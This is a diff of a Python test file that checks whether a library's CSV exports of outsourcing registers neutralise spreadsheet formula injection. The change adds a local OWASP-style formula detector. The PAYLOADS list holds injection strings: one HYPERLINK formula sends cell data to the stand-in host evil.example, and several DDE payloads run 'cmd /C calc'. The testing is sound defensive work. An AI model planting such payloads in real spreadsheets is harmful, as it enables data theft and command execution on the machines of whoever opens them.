@@ -22,13 +22,23 @@ from dfgov.outsourcing.registers import (
     eba_register,
     export_dora_package,
 )
-from dfgov.outsourcing.registers._csv import is_formula, neutralise
 
 from ..outsourcing.test_registers import ENTITY, FUNCTIONS, REF, cases
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
             "＝1+1"]
+
+
+def is_formula(cell: str) -> bool:
+    """What a spreadsheet evaluates (an independent statement of the OWASP rule)."""
+    if not cell or cell[0] not in "=+-@\t\r＝＋－＠":
+        return False
+    try:
+        float(cell)
+    except ValueError:
+        return True
+    return False
 
 
 def _poisoned(name: str) -> list[OutsourcingCase]:
@@ -58,6 +68,8 @@ def test_eba_register_and_china_ledger_neutralise(tmp_path: Path, payload: str) 
 
 
 def test_numbers_and_plain_text_are_left_alone() -> None:
+    from dfgov.outsourcing.registers._csv import neutralise
+
     for value in ("-5", "+3.25", "-1e3", ".5", "ACME Ltd", "", "a=b"):
         assert neutralise(value) == value
     assert neutralise(-5) == -5
